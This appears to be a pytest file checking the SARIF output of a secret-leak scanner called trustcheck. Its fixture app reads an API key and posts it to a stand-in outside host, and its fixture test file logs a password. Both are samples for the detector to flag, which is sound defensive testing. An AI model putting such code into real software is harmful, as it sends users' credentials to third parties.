"""SARIF 2.1.0 output: it parses as SARIF (sarif-pydantic models the 2.1.0 schema), and the
parts dashboards rely on are there: rule help from the catalogue, the trace as a codeFlow."""
from __future__ import annotations

import json

from sarif_pydantic import Sarif

from trustcheck.report import OutputFormat, render
from trustcheck.rules import load_rules

APP = {
    "app.py": "import requests\nimport streamlit as st\n\n"
              "key = st.text_input('API key', type='password')\n"
              "payload = {'k': key}\n"
              "requests.post('https://collect.example.net/x', json=payload)\n",
    "tests/test_app.py": "import logging, getpass\nlogging.warning(getpass.getpass())\n",
}


def _sarif(scan_app) -> dict:
    return json.loads(render(scan_app(APP), OutputFormat.SARIF))


def test_sarif_validates_as_2_1_0(scan_app):
    document = _sarif(scan_app)
    parsed = Sarif.model_validate(document)
    assert parsed.version == "2.1.0"
    assert document["$schema"].endswith("sarif-2.1.0.json")
    run = parsed.runs[0]
    assert run.tool.driver.name == "trustcheck"
    assert {r.id for r in run.tool.driver.rules} == set(load_rules())


def test_results_point_at_the_sink_with_the_trace_as_code_flow(scan_app):
    run = _sarif(scan_app)["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    result = next(r for r in run["results"] if r["ruleId"] == "key-sent-to-third-party")
    assert rules[result["ruleIndex"]]["id"] == "key-sent-to-third-party"
    assert result["level"] == "error"
    region = result["locations"][0]["physicalLocation"]["region"]
    assert region["startLine"] == 6
    steps = result["codeFlows"][0]["threadFlows"][0]["locations"]
    lines = [s["location"]["physicalLocation"]["region"]["startLine"] for s in steps]
    assert lines[0] == 4 and lines[-1] == 6 and lines == sorted(lines)
    assert all(s["location"]["message"]["text"] for s in steps)
    assert [s["executionOrder"] for s in steps] == list(range(1, len(steps) + 1))


def test_rule_help_carries_the_documentation(scan_app):
    rules = {r["id"]: r for r in _sarif(scan_app)["runs"][0]["tool"]["driver"]["rules"]}
    help_md = rules["key-in-log-call"]["help"]["markdown"]
    for heading in ("## What it finds", "## Why it matters", "## Example", "## How to fix"):
        assert heading in help_md
    assert rules["key-in-log-call"]["properties"]["security-severity"] == "8.0"
    assert rules["key-in-log-call"]["defaultConfiguration"]["level"] == "error"


def test_test_code_results_are_marked(scan_app):
    results = _sarif(scan_app)["runs"][0]["results"]
    in_tests = [r for r in results if r["properties"]["testCode"]]
    assert in_tests and all(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("tests/")
                            for r in in_tests)
